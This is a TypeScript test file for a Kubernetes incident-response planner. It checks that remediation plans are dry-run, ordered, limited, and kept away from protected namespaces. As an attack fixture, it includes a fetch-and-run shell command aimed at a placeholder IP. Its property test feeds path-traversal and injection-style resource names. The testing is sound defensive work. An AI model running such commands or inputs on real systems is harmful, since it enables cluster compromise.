import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Entity, Incident } from '../../../schemas/generated/types.ts'
import { ATTACK } from '../../../test/support/scarleteel-signals.ts'
import { entityOf, podOf, signalOf } from '../../../test/support/signals.ts'
import { buildIncident } from '../correlate/incident.ts'
import { columnsOf, plainStyle } from '../terminal-text.ts'
import { NO_FACTS, type PlanFacts } from './facts.ts'
import { PROTECTED_NAMESPACES } from './guard-rails.ts'
import { choosePlaybook, planFor } from './plan.ts'
import { ACTION_NAMES, parsePlaybook } from './playbook.ts'
import { renderPlan } from './render-plan.ts'

const HEADER = { id: '273e12d0390acc02', revision: 7, status: 'open' } as const
const ATTACKED = buildIncident(HEADER, ATTACK)
const everything = parsePlaybook(
  `name: everything\ntitle: Everything\nsteps:\n${ACTION_NAMES.map((name) => `  - action: ${name}\n`).join('')}`,
  'everything.yml'
)

describe('a plan', { timeout: 60_000 }, () => {
  it('is the same for the same incident, and another for another revision that changes it', () => {
    const plan = planFor(ATTACKED, NO_FACTS, everything)
    expect(planFor(ATTACKED, NO_FACTS, everything)).toEqual(plan)
    expect(planFor({ ...ATTACKED, revision: 8, narrative: 'x' }, NO_FACTS, everything)).toMatchObject({
      id: plan?.id,
      time: plan?.time
    })
    const further = signalOf({ id: 'z', minute: 50, entities: [podOf('uid-9', 'data/other')] })
    expect(planFor(buildIncident(HEADER, [...ATTACK, further]), NO_FACTS, everything)?.id).not.toBe(plan?.id)
    expect(planFor({ ...ATTACKED, id: 'another' }, NO_FACTS, everything)?.id).not.toBe(plan?.id)
  })

  it('only shows, and is of the revision it was made from', () => {
    expect(planFor(ATTACKED, NO_FACTS, everything)).toMatchObject({
      status: 'planned',
      mode: 'dry_run',
      incident_id: ATTACKED.id,
      incident_revision: 7,
      cluster: ATTACKED.cluster
    })
  })

  it('reads before it changes anything, stops the owner before the pod goes, and kills the topmost process of the attack', () => {
    const steps = planFor(ATTACKED, NO_FACTS, everything)?.steps ?? []
    const names = steps.map(({ name }) => name)
    expect(names[0]).toBe('collect_evidence')
    expect(names.indexOf('contain_workload')).toBeLessThan(names.indexOf('delete_pod'))
    expect(steps.filter(({ name }) => name === 'kill_process_tree').map(({ target }) => target.name)).toEqual([
      'bash -c "$(dload 198.51.100.7/.bin/.g/.a.sh)"'
    ])
  })

  it('does not take what a pod had made for what is in it', () => {
    const node = (name: string) => entityOf('node', name)
    const account = entityOf('service_account', 'x/sa', 'actor')
    const incident = buildIncident(HEADER, [
      signalOf({
        id: 'a',
        minute: 0,
        source: 'audit',
        action: 'pods:create',
        entities: [account, podOf('uid-a', 'x/a'), entityOf('pod', 'x/b', 'target')]
      }),
      signalOf({
        id: 'b',
        minute: 1,
        entities: [podOf('uid-b', 'x/b'), entityOf('container', 'c-b', 'actor', 'main'), node('n2')],
        ancestry: [entityOf('process', 'p-b', 'actor', 'miner')]
      })
    ])
    const plan = planFor(incident, NO_FACTS, everything)
    const killed = plan?.steps.filter(({ name }) => name === 'kill_process_tree').map(({ description }) => description)
    expect(killed).toEqual(['Kill miner and everything it started, in pod x/b'])
    const evidence = plan?.steps
      .filter(({ name }) => name === 'collect_evidence')
      .map(({ requests }) => requests.some(({ path }) => path.includes('container=main')))
    expect(evidence).toEqual([false, true])
  })

  it('knows more with the inventory: owner, node, and which bindings to take', () => {
    const incident = buildIncident(HEADER, [
      signalOf({
        id: 'a',
        minute: 0,
        entities: [podOf('uid-1', 'x/p-1'), entityOf('service_account', 'x/sa', 'actor')],
        ancestry: [entityOf('process', 'p', 'actor', 'sh')]
      })
    ])
    const known = (uid: string, name: string): PlanFacts['pods'][number] => ({
      pod: {
        uid,
        name,
        namespace: 'x',
        node: 'n7',
        ip: null,
        service_account: 'x/sa',
        labels: {},
        created: null,
        host_network: null,
        host_pid: null,
        host_ipc: null
      },
      workload: { kind: 'Deployment', name: 'p', namespace: 'x', uid: 'd' }
    })
    const subject = (name: string) => ({ kind: 'ServiceAccount', name, namespace: 'x' })
    const facts: PlanFacts = {
      pods: [known('uid-1', 'p-1'), known('uid-2', 'p-2')],
      bindings: [
        { namespace: 'x', name: 'only:sa', role: 'edit', subjects: [subject('sa')] },
        {
          namespace: null,
          name: 'shared',
          role: 'view',
          subjects: [subject('sa'), subject('other'), { kind: 'Group', name: 'ops', namespace: null }]
        },
        { namespace: 'x', name: 'others', role: 'view', subjects: [subject('other')] },
        { namespace: 'x', name: '../up', role: 'view', subjects: [subject('sa')] }
      ],
      weir_namespace: 'weir'
    }
    const plan = planFor(incident, facts, everything)
    const texts = (plan?.steps ?? [])
      .flatMap(({ requests }) => requests)
      .map(({ to, method, path, body }) => `${to} ${method} ${path} ${body ?? ''}`)
    expect(texts).toContainEqual(expect.stringMatching(/^node-agent\/n7 POST \/v1\/processes\/kill /))
    expect(texts).toContainEqual(expect.stringMatching(/deployments\/p\/scale/))
    expect(texts).toContainEqual(expect.stringMatching(/DELETE .*\/namespaces\/x\/rolebindings\/only%3Asa /))
    expect(texts).toContainEqual(
      'kube-apiserver PATCH /apis/rbac.authorization.k8s.io/v1/clusterrolebindings/shared {"subjects":[{"kind":"ServiceAccount","name":"other","namespace":"x"},{"kind":"Group","name":"ops","apiGroup":"rbac.authorization.k8s.io"}]}'
    )
    expect(texts.join('\n')).not.toContain('others')
    expect(plan?.notes).toEqual(['binding ../up is left alone: that is not the name of one'])
    expect(plan?.steps.find(({ name }) => name === 'contain_workload')?.blast_radius).toMatch(/^2 known pods: /)
  })

  it('stops at its limits and names the rest', () => {
    const signals = Array.from({ length: 13 }, (_, place) =>
      signalOf({ id: `s${place}`, minute: place, entities: [podOf(`u${place}`, `x/p${place}`)] })
    )
    const plan = planFor(buildIncident(HEADER, signals), NO_FACTS, everything)
    expect(plan?.steps.filter(({ name }) => name === 'delete_pod').length).toBe(10)
    expect(plan?.notes).toContain('pod x/p12 is left to people: the playbook stops at 10')
  })

  it('makes one policy per namespace, before the labels it is for', () => {
    const signals = ['a/p1', 'a/p2', 'b/p3'].map((name, minute) =>
      signalOf({ id: name, minute, entities: [podOf(`u${minute}`, name)] })
    )
    const steps = planFor(buildIncident(HEADER, signals), NO_FACTS, everything)?.steps ?? []
    const methods = steps
      .filter(({ name }) => name === 'quarantine_pod')
      .map(({ requests }) => requests.map(({ method }) => method).join(' '))
    expect(methods).toEqual(['POST PATCH', 'PATCH', 'POST PATCH'])
  })

  it('whatever an incident says, no request leaves its path, no protected namespace is touched, and all of it can be printed', () => {
    const name = fc.oneof(
      fc.constantFrom(
        'x/p',
        'kube-system/p',
        'weir/p',
        'x/../../api/v1/secrets',
        'x/p?dryRun=All',
        'x/%2e%2e',
        'Deployment/x/web',
        'Deployment/kube-system/dns',
        'DaemonSet/x/a;b',
        'n1',
        '__proto__'
      ),
      fc.string({ unit: 'binary', maxLength: 30 })
    )
    const entity: fc.Arbitrary<Entity> = fc.record({
      type: fc.constantFrom('pod', 'workload', 'service_account', 'node', 'container', 'process', 'user'),
      id: name,
      name,
      role: fc.constantFrom('actor', 'target', 'context')
    })
    const sketch = fc.record({
      source: fc.constantFrom('audit' as const, 'runtime' as const),
      action: fc.constantFrom('pods:create', 'deployments:create', 'exec'),
      entities: fc.array(entity, { minLength: 1, maxLength: 6 }),
      ancestry: fc.array(entity, { maxLength: 2 })
    })
    const protectedNames = [...PROTECTED_NAMESPACES.map(({ namespace }) => namespace), 'weir']
    fc.assert(
      fc.property(fc.array(sketch, { minLength: 1, maxLength: 6 }), (sketches) => {
        const incident = buildIncident(
          HEADER,
          sketches.map((one, minute) => signalOf({ ...one, id: `s${minute}`, minute }))
        )
        const plan = planFor(incident, NO_FACTS, everything)
        if (plan === null) return
        for (const { requests } of plan.steps) {
          for (const { path, to, body } of requests) {
            const [way = '', query] = path.split('?')
            expect(way).toMatch(/^(?:\/[A-Za-z0-9._%-]+)+$/)
            expect(way.split('/').map(decodeURIComponent)).not.toContain('..')
            expect(to).toMatch(/^(?:kube-apiserver|notify|node-agent\/[a-z0-9.-]+)$/)
            const namespace = /\/namespaces\/([^/]+)/.exec(way)?.[1]
            if (namespace !== undefined) expect(protectedNames).not.toContain(namespace)
            if (body !== null) expect(() => JSON.parse(body)).not.toThrow()
            if (query !== undefined) expect(query).toMatch(/^[A-Za-z0-9=&%+._*-]+$/)
          }
        }
        expect(renderPlan(plan).replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
      }),
      { numRuns: 100 }
    )
  })
})

describe('the playbook for an incident', () => {
  const book = (name: string, when: string) =>
    parsePlaybook(`name: ${name}\ntitle: t\nwhen: ${when}\nsteps: [{ action: collect_evidence }]`, name)
  const playbooks = [
    book('a', '{ severity: critical }'),
    book('b', '{ severity: high, entities: [pod] }'),
    book('c', '{ severity: low, sources: [audit] }')
  ]
  const incident = (changes: Partial<Incident>): Incident => ({
    ...ATTACKED,
    playbook: null,
    severity: 'high',
    ...changes
  })

  it.each<[string, Partial<Incident>, string | null]>([
    ['what a rule recommends comes first', { playbook: 'c' }, 'c'],
    ['what nobody has is as if nothing was recommended', { playbook: 'gone' }, 'b'],
    ['else the first whose trigger fits', { severity: 'critical' }, 'a'],
    ['an entity that only stands by does not count', { entities: [entityOf('pod', 'p', 'context')] }, 'c'],
    ['all sources have to have seen it', { entities: [], sources: ['runtime'] }, null]
  ])('%s', (_name, changes, expected) => {
    expect(choosePlaybook(incident(changes), playbooks)?.name ?? null).toBe(expected)
  })
})

describe('a plan on a terminal', () => {
  const plan = planFor(ATTACKED, NO_FACTS, everything)

  it('shows every request to be copied, what it affects and how to take it back', () => {
    const text = plan === null ? '' : renderPlan(plan)
    for (const { requests } of plan?.steps ?? []) for (const { path } of requests) expect(text).toContain(path)
    expect(text.match(/affects: /g)?.length).toBe(plan?.steps.length)
    expect(text.match(/undo: /g)?.length).toBe(plan?.steps.length)
  })

  it('keeps all but the requests within the width', () => {
    for (const width of [60, 100]) {
      const lines = plan === null ? [] : renderPlan(plan, { width, style: plainStyle }).split('\n')
      for (const line of lines)
        if (!/^ {5}(?:GET|POST|PATCH|DELETE|undo:| {5}) /.test(line))
          expect(columnsOf(line), line).toBeLessThanOrEqual(width)
    }
  })
})
